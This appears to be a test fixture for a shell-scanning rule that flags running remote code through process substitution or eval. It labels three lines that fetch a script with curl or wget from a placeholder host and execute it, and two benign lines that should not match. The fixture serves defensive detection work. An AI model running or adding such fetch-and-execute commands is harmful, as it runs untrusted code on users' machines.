#!/bin/bash
# Fixture for sh.shell-from-process-substitution (provscan's own).
# ruleid: sh.shell-from-process-substitution
bash <(curl -fsSL https://example.invalid/bootstrap)
# ruleid: sh.shell-from-process-substitution
eval "$(curl -s https://example.invalid/env)"
# ruleid: sh.shell-from-process-substitution
source <(wget -qO- https://example.invalid/profile)
# ok: sh.shell-from-process-substitution
eval "$(ssh-agent -s)"
# ok: sh.shell-from-process-substitution
diff <(sort a.txt) <(sort b.txt)
